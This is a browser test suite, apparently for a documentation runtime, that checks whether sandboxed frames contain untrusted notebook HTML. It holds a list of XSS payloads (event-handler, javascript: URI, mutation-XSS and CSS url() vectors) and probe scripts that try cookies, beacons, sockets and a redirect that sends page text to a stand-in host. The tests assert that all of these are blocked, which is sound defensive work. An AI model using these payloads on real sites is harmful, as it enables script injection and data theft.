"""Untrusted HTML is shown, but can't change the page, and nothing in it can leave its frame."""

# ruff: noqa: E501 - markup with other line breaks would be other markup

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import expect

from tests.browser.scenarios import Scenario, block
from tests.browser.server import SiteServer
from tests.browser.sites import Plan

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from playwright.sync_api import FrameLocator, Page, Route

    from tests.browser.conftest import MakeSite
    from tests.browser.live_page import Cell, LivePage
    from tests.browser.sites import Site

STRICT_POLICY = (
    "default-src 'self'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self'; img-src 'self' blob: data:; "
    "media-src 'self' blob: data:; frame-src 'self'; object-src 'none'; base-uri 'none'; form-action 'self'"
)
"""The policy in docs/how-to/content-security-policy.md; tests/security compares them."""

TABLES = '''
from IPython.display import HTML, display

display(HTML("""
<div><style scoped>.dataframe thead th { text-align: right; } h1 { color: red }</style>
<table border="1" class="dataframe" id="content">
  <thead><tr style="text-align: right;"><th></th><th>word</th><th>number</th></tr></thead>
  <tbody><tr><th>0</th><td>first</td><td>1.50</td></tr><tr><th>1</th><td>second</td><td>NaN</td></tr></tbody>
</table></div>
"""))
display(HTML("""
<style type="text/css">#T_1_row0 { background-color: yellow; } #T_2 { background: url(ELSEWHERE/sheet) }</style>
<table id="T_1"><tr><td id="T_1_row0">lit</td></tr></table>
<p id="T_2" style="position: fixed; inset: 0; color: rgb(1, 2, 3); background-image: url(ELSEWHERE/style)">fixed</p>
"""))
display(HTML("<table><tr>" + "<td>a wide cell of a table</td>" * 40 + "</tr></table>"))
display(HTML("""
<img src="ELSEWHERE/picture" srcset="ELSEWHERE/set 2x" alt="far"> <video src="ELSEWHERE/clip" poster="ELSEWHERE/poster"></video>
<iframe src="ELSEWHERE/film" width=300></iframe> <table background="ELSEWHERE/legacy"><tr><td>x</td></tr></table>
<svg width=9 height=9><image href="ELSEWHERE/drawn"/><rect fill="url(ELSEWHERE/paint#p)" width=9 height=9 /></svg>
<img alt="near" src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==">
<a href="ELSEWHERE/page">out</a> <a href="#there">down</a> <a href="ftp://x/y">ftp</a> <p id="there">target</p>
<input type="checkbox"> <input name="password" type="password"> <textarea></textarea>
"""))
'''

BAD = """
from IPython.display import HTML, display

REACH = "try { top.hit = 1 } catch { fetch('ELSEWHERE/hit').catch(() => {}) }"
SHORT = "self.hit=1"
for html in [
    f"<script>{REACH}</script>",
    f"<SCRIPT/x>{REACH}</SCRIPT >",
    f'<img src="data:," onerror="{REACH}">',
    f'<img/src="data:,"/onerror="{REACH}">',
    f'<svg onload="{REACH}"></svg>',
    f"<svg><script>{REACH}</script></svg>",
    f'<svg><animate onbegin="{REACH}" attributeName=x dur=1s></svg>',
    f'<details open ontoggle="{REACH}"></details>',
    f'<a href="javascript:{REACH}">scheme</a>',
    f'<a href=" java&#10;script:{REACH}">entity</a>',
    f'<svg><a xlink:href="javascript:{REACH}"><text y=9>svg</text></a></svg>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=data:, onerror={SHORT}&gt;">',
    f"<noscript><p title='</noscript><img src=data:, onerror={SHORT}>'></noscript>",
    f'<iframe srcdoc="<script>{REACH}</script>"></iframe>',
    f'<iframe src="javascript:{REACH}"></iframe>',
    f'<object data="data:text/html,<script>{REACH}</script>"></object><embed src="ELSEWHERE/embed">',
    '<base href="ELSEWHERE/base/"><img src="relative">',
    '<form action="ELSEWHERE/form"><input name=q><button id=go>Go</button></form><script>go.click()</script>',
    '<link rel="stylesheet" href="ELSEWHERE/sheet"><link rel="prefetch" href="ELSEWHERE/prefetch">',
    '<meta http-equiv="refresh" content="0; url=ELSEWHERE/refresh">',
    '<script>location = "ELSEWHERE/moved?" + document.documentElement.innerText</script>',
    '<style>@import "ELSEWHERE/import"; @font-face { font-family: x; src: url(ELSEWHERE/font) } * { font-family: x;'
    ' --a: url(ELSEWHERE/variable); background: var(--a, url(ELSEWHERE/shorthand)); list-style: u\\\\72l(ELSEWHERE/escape);'
    ' border-image: -webkit-image-set("ELSEWHERE/set" 1x) }</style><ul><li style="cursor: url(ELSEWHERE/cursor), auto">x',
    "<!-- <script> --><p>commented</p>", "<p style='color:red", "<table><td><style>p { color: red",
]:
    display(HTML(html))
print("all are shown")
"""

PROBES = '''
from IPython.display import HTML, display

display(HTML("""<p>probed</p><pre id="report"></pre><script>
const results = [];
const attempt = (name, action) => {
  try { results.push(name + ": " + action()); } catch (error) { results.push(name + ": " + error.name); }
  report.textContent = results.join("\\\\n");
};
attempt("origin", () => origin);
attempt("cookie", () => document.cookie);
attempt("parent", () => parent.parent.document.title);
attempt("storage", () => localStorage.length);
attempt("open", () => open("ELSEWHERE/open"));
attempt("top", () => { top.location = "ELSEWHERE/top"; });
attempt("eval", () => eval("6 * 7"));
attempt("beacon", () => void navigator.sendBeacon("ELSEWHERE/beacon", "x"));
attempt("socket", () => void new WebSocket("ELSEWHERE/socket".replace("http", "ws")));
attempt("worker", () => void new Worker(URL.createObjectURL(new Blob(["try { importScripts('ELSEWHERE/worker') } catch {}"]))));
new Image().src = "ELSEWHERE/image";
import("ELSEWHERE/module").catch(() => attempt("import", () => "refused"));
fetch("ELSEWHERE/fetch").catch(() => attempt("fetch", () => "refused"));
</script>"""))
'''

SIZED = '''
from IPython.display import HTML, display

display(HTML("""<div id="box" style="height: 321px">text</div><a href="https://example.org/?a=b">leave</a>
<button onclick="box.style.height = '45px'">shrink</button><style>a, button { position: absolute; top: 0 } a { right: 0 }</style>"""))
'''

MANY = """
from IPython.display import HTML, display

for number in range(24):
    display(HTML(f"<script>document.write('frame {number}')</script><p style='height: 300px'>"))
"""

FIGURES = '''
import sys, pathlib, types
from pyrun_runtime import after_import

root = pathlib.Path("/home/pyodide/fakes/plotly")
(root / "package_data").mkdir(parents=True)
(root / "__init__.py").write_text("__version__ = '1'")
(root / "package_data/plotly.min.js").write_text(
    "globalThis.Plotly = { newPlot: async (place, data) => { place.textContent = `</script>drawn ${data}` } }")
(root / "basedatatypes.py").write_text("""
import json
from types import SimpleNamespace as Space
class BaseFigure:
    layout = Space(title=Space(text="Growth"))
    def to_json(self, validate):
        return json.dumps({"data": "</script><b>bold", "layout": {}})
    def _ipython_display_(self):
        raise AssertionError
""")
sys.path.append(str(root.parent))
from plotly.basedatatypes import BaseFigure
BaseFigure().show()
BaseFigure()
'''

CHART = """
import json
from IPython.display import display

spec = {"$schema": "https://vega.github.io/schema/vega-lite/v6.json", "data": {"values": [{"a": 1}, {"a": 2}]},
        "mark": "bar", "encoding": {"x": {"field": "a"}}, "description": "two bars"}
figure = {"library": "vega", "scripts": ["vega"], "title": "Bars", "spec": json.dumps(spec)}
display({"application/vnd.pyrun.frame+json": json.dumps(figure), "text/plain": "a chart"}, raw=True)
"""


@pytest.fixture(scope="module")
def elsewhere(tmp_path_factory: pytest.TempPathFactory) -> Iterator[SiteServer]:
    """Another site, which must not receive any request."""
    with SiteServer(tmp_path_factory.mktemp("elsewhere")) as server:
        yield server


@pytest.fixture(scope="module")
def live_page(
    share_page: Callable[[Scenario, Site], LivePage],
    make_site: MakeSite,
    served: SiteServer,
    elsewhere: SiteServer,
) -> Iterator[LivePage]:
    """A page under the strict policy."""
    address = elsewhere.url.rstrip("/")
    codes = {"tables": TABLES, "bad": BAD, "probes": PROBES, "sized": SIZED, "many": MANY, "figures": FIGURES}
    blocks = {
        name: block(code.replace("ELSEWHERE", address)) for name, code in {**codes, "chart": CHART}.items()
    }
    scenario = Scenario("foreign", blocks)
    config = {
        "suppress_warnings": ["pyrun.undeclared"],  # this site has a stand-in for plotly
        "html_sidebars": {"**": []},  # they contain a script
    }
    site = make_site("foreign-html", Plan("sphinx", (scenario,), theme="alabaster", config=config))
    headers = {"Content-Security-Policy": STRICT_POLICY}
    with SiteServer(served.folder, headers, exempt="*/frame-*.html") as server:
        site = replace(site, url=site.url.replace(served.url, server.url))
        yield share_page(scenario, site)


@pytest.fixture
def live(live_page: LivePage, elsewhere: SiteServer) -> Iterator[LivePage]:
    """For one test: only frames reported violations, and no other host received a request."""
    yield live_page
    # The page's policy has 'self' where the policy of frames has no entry or 'none'.
    live_page.watch.allow(
        r"violates the (following|document's) Content Security Policy(?!.*'self')", "sandboxed"
    )
    live_page.watch.allow(
        "request failed: .*(csp|ERR_BLOCKED_BY)",
        "request to another host: " + elsewhere.url,
    )
    live_page.watch.check()
    assert elsewhere.asked_for == []


def frame_in(cell: Cell, title: str = "Output") -> FrameLocator:
    """The document inside the frame."""
    return cell.output.locator(f"iframe[title='{title}']").first.content_frame.frame_locator("iframe")


def test_tables_are_styled_and_affect_nothing_else(live: LivePage) -> None:
    cell = live.cell("tables")
    cell.run_to("done")
    table = cell.output.get_by_role("table").first
    expect(table.get_by_role("columnheader", name="number")).to_have_css("text-align", "end")
    expect(table.get_by_role("columnheader", name="word")).to_have_css("text-align", "start")
    expect(table.get_by_role("cell", name="NaN")).to_have_css("text-align", "end")
    expect(cell.output.get_by_text("lit")).to_have_css("background-color", "rgb(255, 255, 0)")
    wide = cell.output.get_by_role("region", name="Table")
    expect(wide).to_have_count(1)
    expect(wide).to_have_attribute("tabindex", "0")
    heading = live.page.get_by_role("heading", name="Page foreign")
    assert heading.evaluate("node => getComputedStyle(node).color") != "rgb(255, 0, 0)"
    fixed = cell.output.get_by_text("fixed")
    expect(fixed).to_have_css("color", "rgb(1, 2, 3)")
    expect(fixed).to_have_css("background-image", "none")
    box = fixed.bounding_box()
    log = cell.output.bounding_box()
    assert box is not None
    assert log is not None
    assert box["width"] <= log["width"]
    assert live.page.evaluate("document.getElementById('content')") is None


def test_a_link_leads_to_what_is_on_another_host(live: LivePage, elsewhere: SiteServer) -> None:
    cell = live.cell("tables")
    if cell.state != "done":
        cell.run_to("done")
    for name in ("picture", "clip", "film"):
        link = cell.output.get_by_role("link", name=f"{elsewhere.url}{name}", exact=True)
        expect(link).to_have_attribute("target", "_blank")
        expect(link).to_have_attribute("rel", "noopener noreferrer")
    expect(cell.output.get_by_alt_text("near")).to_have_js_property("naturalWidth", 1)
    expect(cell.output.get_by_role("link", name="out")).to_have_attribute("href", f"{elsewhere.url}page")
    expect(cell.output.get_by_text("ftp")).not_to_have_attribute("href", "ftp://x/y")
    expect(cell.output.get_by_role("checkbox")).to_have_count(1)
    expect(cell.output.get_by_role("textbox")).to_have_count(0)
    cell.output.get_by_role("link", name="down").click()
    assert live.page.evaluate("location.hash") == ""


def test_bad_html_does_not_affect_the_page(live: LivePage) -> None:
    cell = live.cell("bad")
    page = live.page
    address, base = page.evaluate("[location.href, document.baseURI]")
    cell.run_to("done")
    see_all(cell)
    assert page.evaluate("[window.hit, location.href, document.baseURI]") == [None, address, base]
    expect(page.locator("form[action*='/form'], base, script:text('hit')")).to_have_count(0)


def see_all(cell: Cell) -> None:
    """Scroll through the output until each frame has been in view, and click all links."""
    for shown in cell.output.locator(".display").all():
        shown.scroll_into_view_if_needed()
        if shown.locator(".frame").count() == 0:
            continue
        inside = shown.frame_locator("iframe").frame_locator("iframe")
        expect(inside.locator("body")).to_be_attached()
        for link in inside.locator("a").all():
            link.dispatch_event("click")


def test_a_frame_reaches_neither_the_page_nor_another_host(live: LivePage) -> None:
    cell = live.cell("probes")
    cell.run_to("done")
    report = frame_in(cell).locator("#report")
    expect(report).to_contain_text("import: refused")
    expect(report).to_contain_text("fetch: refused")
    assert dict(line.split(": ") for line in report.inner_text().splitlines()) == {
        "origin": "null",
        "cookie": "SecurityError",
        "parent": "SecurityError",
        "storage": "SecurityError",
        "open": "null",
        "top": "SecurityError",
        "eval": "42",
        "beacon": "undefined",
        "socket": "undefined",
        "worker": "undefined",
        "import": "refused",
        "fetch": "refused",
    }


def test_a_frame_is_as_high_as_its_content_and_follows_the_theme(live: LivePage) -> None:
    cell = live.cell("sized")
    cell.run_to("done")
    frame = cell.output.locator("iframe")
    expect(frame).to_have_css("height", "321px")
    frame_in(cell).get_by_role("button", name="shrink").click()
    expect(frame).to_have_css("height", "45px")
    inside = frame_in(cell).locator("html")
    expect(inside).to_have_css("color-scheme", "light")
    set_background(live.page, "#111")
    expect(inside).to_have_css("color-scheme", "dark")
    set_background(live.page, "")
    expect(inside).to_have_css("color-scheme", "light")


def set_background(page: Page, colour: str) -> None:
    """As themes do it: an attribute of the root changes, and all colours with it."""
    page.evaluate(
        "colour => { document.querySelector('.body').style.background = colour; document.body.title = colour }",
        colour,
    )


def test_a_link_in_a_frame_is_offered_by_the_page(live: LivePage) -> None:
    cell = live.cell("sized")
    if cell.state != "done":
        cell.run_to("done")
    frame_in(cell).get_by_role("link", name="leave").click()
    expect(cell.output.get_by_role("link", name="https://example.org/?a=b")).to_be_visible()


def test_only_a_few_of_many_frames_exist_at_once(live: LivePage) -> None:
    cell = live.cell("many")
    cell.run_to("done")
    for shown in cell.output.locator(".display").all():
        shown.scroll_into_view_if_needed()
        expect(shown.locator("iframe")).to_be_attached()
    assert cell.output.locator("iframe").count() <= 12
    first = cell.output.locator(".display").first
    first.scroll_into_view_if_needed()
    expect(first.frame_locator("iframe").frame_locator("iframe").locator("body")).to_have_text("frame 0")


def test_a_figure_is_drawn_with_the_script_of_its_package(live: LivePage) -> None:
    cell = live.cell("figures")
    cell.run_to("done")
    drawn = frame_in(cell, "Growth").locator("#figure")
    expect(drawn).to_have_count(1)
    expect(cell.output.locator("iframe")).to_have_count(2)
    expect(drawn.first).to_have_text("</script>drawn </script><b>bold")


def test_an_altair_chart_is_drawn_with_a_file_of_the_site(live: LivePage) -> None:
    page = live.page
    assert not [path for path in live.watch.paths() if path.startswith("vega-")]
    cell = live.cell("chart")
    cell.run_to("done")
    expect(frame_in(cell, "Bars").get_by_label("a: 1", exact=True)).to_be_visible()
    assert len([path for path in live.watch.paths() if path.startswith("vega-")]) == 1
    assert page.evaluate("window.vegaEmbed") is None


def test_the_fix_is_shown_on_a_site_that_forbids_the_scripts_of_frames(live: LivePage) -> None:
    def forbid(route: Route) -> None:
        response = route.fetch()
        route.fulfill(
            response=response, headers=response.headers | {"content-security-policy": STRICT_POLICY}
        )

    page: Page = live.page
    page.route("**/frame-*.html", forbid)
    cell = live.cell("probes")
    cell.run_to("done")
    expect(cell.output).to_contain_text("without the headers Content-Security-Policy")
    page.unroute("**/frame-*.html")
    live.watch.allow(r"inline (script|style)")
